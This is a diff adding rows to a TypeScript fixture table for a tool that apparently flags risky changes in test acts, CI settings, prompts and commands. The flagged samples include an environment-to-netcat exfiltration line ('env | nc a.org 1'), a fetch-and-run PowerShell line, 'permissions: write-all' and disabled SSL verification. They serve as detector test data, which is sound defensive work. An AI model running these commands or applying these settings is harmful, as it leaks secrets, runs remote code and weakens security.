@@ -96,6 +96,13 @@ export const KINDS: readonly Row[] = [
   line('testActs', 'tests/a.rs', 'Command::new("true").spawn();', 'Command::cargo_bin("shop").unwrap();'),
   line('testActs', 'test/run.sh', 'true', '# only a comment'),
   line('testActs', 'test/a.test.ts', "readFileSync('.git/config');", "readFileSync('.gitignore');"),
+  // What tests of real projects do, and what looks like it.
+  line('testActs', 'tests/test_a.py', 'open("x", "w")', 'with runner.isolated_filesystem():\n    open("x", "w")'),
+  line('testActs', 'tests/test_a.py', 'eval(a)', 'pickle.loads(pickle.dumps(a))'),
+  line('testActs', 'tests/test_a.py', 'os.environ["PATH"] = a', 'monkeypatch.setitem(os.environ, "PAGER", "cat")'),
+  line('testActs', 'tests/test_a.py', 'subprocess.run(a)', '"""Says what\nsubprocess and ``os.system(a)`` do.\n"""'),
+  line('testActs', 'a_test.go', 'exec.Command("a")', 'want := `unknown command "a" for ` + name'),
+  line('testActs', 'spec/a_spec.rb', '`git push`', 'request.get("/a")\npager.write("a")'),
   // What code of the product imports is a part of it.
   ...[
     ['src/tests/a.js', 'src/b.js', "import { a } from './tests/a.js';", "import { a } from './test/a.js';"],
@@ -270,6 +277,14 @@ export const KINDS: readonly Row[] = [
       ['rustfmt.toml', 'a = 1', 'a = 2'],
     ],
   ],
+  turned('weakerSettings', '.github/dependabot.yml', 'allow: []', 'allow: ["*"]', 'ignored:\n  - dependency-name: "*"'),
+  turned(
+    'weakerSettings',
+    '.github/workflows/a.yml',
+    'a: 1',
+    'permissions: write-all',
+    'permissions:\n  contents: read',
+  ),
   // Deployments.
   ['deployment', [['deploy/a.yaml', 'a: 1', 'a: 2']], [['data/a.yaml', 'a: 1', 'a: 2']]],
   ['deployment', [['.github/workflows/ci.yml', 'a: 1', 'a: 2']], [['docs/deploy.md', 'a: 1', 'a: 2']]],
@@ -313,6 +328,13 @@ export const KINDS: readonly Row[] = [
     "const prompt = 'Answer as you like it.';",
     "const prompt = 'Answer in one line.';\ngo();",
   ),
+  turned(
+    'prompts',
+    'a.py',
+    'PROMPT = "Be short and kind to all."',
+    'PROMPT = "Be long and rude to all."',
+    'PROMPT = "Be short and kind to all."\nprompt: str = "> "',
+  ),
   // Licences.
   turned('licences', 'LICENSE', 'MIT License 2024', 'MIT License, not for sale', 'MIT License 2024-2026'),
   turned(
@@ -329,6 +351,7 @@ export const KINDS: readonly Row[] = [
   line('dangerousCommands', 'docs/a.md', 'iwr https://a.org/i.ps1 | iex', 'The curl of a | table with a cell'),
   line('dangerousCommands', 'docs/a.md', 'chmod -R 777 /srv', 'chmod +x run.sh'),
   line('dangerousCommands', 'docs/a.md', 'git config --global http.sslVerify false', 'git config user.name a'),
+  line('dangerousCommands', 'README.md', 'env | nc a.org 1', 'app = lambda do |env|'),
   line('commands', 'README.md', 'npm install -g shop-tools', 'npm install'),
   line('commands', 'README.md', 'pip install shop-tools', 'pip install -e .'),
   [
